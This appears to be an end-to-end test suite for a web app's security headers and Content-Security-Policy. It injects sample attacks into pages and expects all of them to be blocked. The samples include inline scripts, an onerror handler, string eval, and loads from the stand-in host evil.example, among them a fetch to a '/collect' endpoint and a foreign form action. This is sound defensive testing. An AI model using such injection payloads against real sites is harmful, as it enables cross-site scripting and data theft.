import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { it, screens } from '../harness/e2e-test.ts';
import { CANARY } from '../harness/hostile-texts.ts';
import { detectScripts, keepRefusals, refusalsOn, takeRefusals } from '../harness/script-detection.ts';

const FOREIGN = 'https://evil.example';

/** Everything an injected text would try; each of it must be refused by a directive of its own. */
const attempts: Readonly<Record<string, (foreign: string) => void>> = {
  'script-src-elem inline': () => add('script', { textContent: 'tarnwortCanary()' }),
  'script-src-elem foreign': (foreign) => add('script', { src: `${foreign}/script.js` }),
  'script-src-attr inline': () =>
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="tarnwortCanary()">'),
  'script-src eval': () => void setTimeout('tarnwortCanary()', 0),
  'frame-src foreign': (foreign) => add('iframe', { src: `${foreign}/frame` }),
  'img-src foreign': (foreign) => add('img', { src: `${foreign}/picture.png` }),
  'style-src-elem foreign': (foreign) => add('link', { rel: 'stylesheet', href: `${foreign}/style.css` }),
  'font-src foreign': (foreign) => void new FontFace('x', `url(${foreign}/font.woff2)`).load().catch(() => {}),
  'media-src foreign': (foreign) => add('video', { src: `${foreign}/film.mp4` }),
  'connect-src foreign': (foreign) => void fetch(`${foreign}/collect`).catch(() => {}),
  'object-src foreign': (foreign) => add('embed', { src: `${foreign}/plugin` }),
  'worker-src inline': () => void new Worker(URL.createObjectURL(new Blob(['1']))),
  // A page has one base, the first in it.
  'base-uri foreign': (foreign) => document.head.prepend(add('base', { href: `${foreign}/` })),
  'form-action foreign': (foreign) => add('form', { action: `${foreign}/form` }).submit(),
};

declare function add<E extends keyof HTMLElementTagNameMap>(
  element: E,
  properties: Partial<HTMLElementTagNameMap[E]>,
): HTMLElementTagNameMap[E];

/** Tries everything on a page and answers with what was refused, by directive and kind. */
async function tryEverything(page: Page): Promise<string[]> {
  await page.evaluate(() => {
    const define = (element: string, properties: object) =>
      document.body.appendChild(Object.assign(document.createElement(element), properties));
    Object.assign(window, { add: define });
  });
  for (const attempt of Object.values(attempts)) await page.evaluate(attempt, FOREIGN);
  await expect.poll(async () => (await refusalsOn(page)).length, { message: page.url() }).toBeGreaterThanOrEqual(14);
  const kinds = (await refusalsOn(page)).map(({ directive, blocked }) => {
    if (blocked === 'eval') return `${directive} eval`;
    return `${directive} ${blocked.startsWith(FOREIGN) ? 'foreign' : 'inline'}`;
  });
  return [...new Set(kinds)].sort();
}

describe('security policy', () => {
  it('what is injected into a page neither runs nor loads, and is reported', async ({ server, arrive, quickTable }) => {
    const table = await quickTable();
    for (const path of ['/home', table.masterPath(), `/overlay/${table.lobbyId}`]) {
      const person = await arrive(path, screens.laptop);
      await keepRefusals(person.context);
      const { detected } = await detectScripts(person.context);
      await person.page.goto(server.url + path);
      await person.page.locator('#root > *').first().waitFor({ state: 'attached' });
      expect(await refusalsOn(person.page), `${path} by itself`).toEqual([]);

      expect(await tryEverything(person.page), path).toEqual(Object.keys(attempts).sort());
      expect(takeRefusals(person).length, `${path}: reported to the console`).toBeGreaterThanOrEqual(14);
      expect(detected, `${path}: ${CANARY}`).toEqual([]);
    }
  });

  it('every kind of answer has the headers that keep a browser safe', async ({ server }) => {
    const pages = ['/home', '/admin/', '/overlay/'];
    for (const path of [...pages, '/config.json', '/favicon.svg', '/api/unknown', '/readyz']) {
      const { headers } = await fetch(server.url + path, { headers: { Accept: 'text/html' } });
      const ancestors = path.startsWith('/overlay') ? "frame-ancestors 'self'" : "frame-ancestors 'none'";
      expect(headers.get('content-security-policy'), path).toContain(ancestors);
      const inline = pages.includes(path) ? " 'sha256-[\\w+/]{43}='" : '';
      expect(headers.get('content-security-policy'), path).toMatch(new RegExp(`script-src 'self'${inline};`));
      expect(headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(headers.get('permissions-policy'), path).toMatch(/camera=\(\).*microphone=\(\).*geolocation=\(\)/);
      expect(headers.get('set-cookie'), path).toBeNull();
    }
  });

  it('no foreign page can frame an app; the overlay may be framed by our own', async ({ server, arrive }) => {
    const stranger = createServer(({ url }, answer) => {
      answer.setHeader('Content-Type', 'text/html');
      answer.end(`<iframe src="${new URL(url ?? '/', server.url)}"></iframe>`);
    }).listen(0, '127.0.0.1');
    await once(stranger, 'listening');
    const address = stranger.address();
    if (typeof address !== 'object' || address === null) throw new Error('no port');
    const person = await arrive('Stranger', screens.laptop);
    const { page } = person;
    try {
      for (const path of ['/home', '/admin/', '/overlay/?demo=1']) {
        await page.goto(`http://127.0.0.1:${address.port}${path}`);
        await expect.poll(() => page.frames()[1]?.url(), { message: path }).toBe('chrome-error://chromewebdata/');
      }
      expect(takeRefusals(person).length).toBeGreaterThanOrEqual(3);
    } finally {
      stranger.close();
    }

    await page.goto(`${server.url}/home`);
    const framed = (path: string) =>
      page.evaluate((src) => document.body.append(Object.assign(document.createElement('iframe'), { src })), path);
    await framed('/overlay/?demo=1');
    await page.frameLocator('iframe').getByRole('article').first().waitFor();
    await framed('/admin/');
    await expect.poll(() => page.frames()[2]?.url()).toBe('chrome-error://chromewebdata/');
    expect(takeRefusals(person)).toHaveLength(1);
  });
});
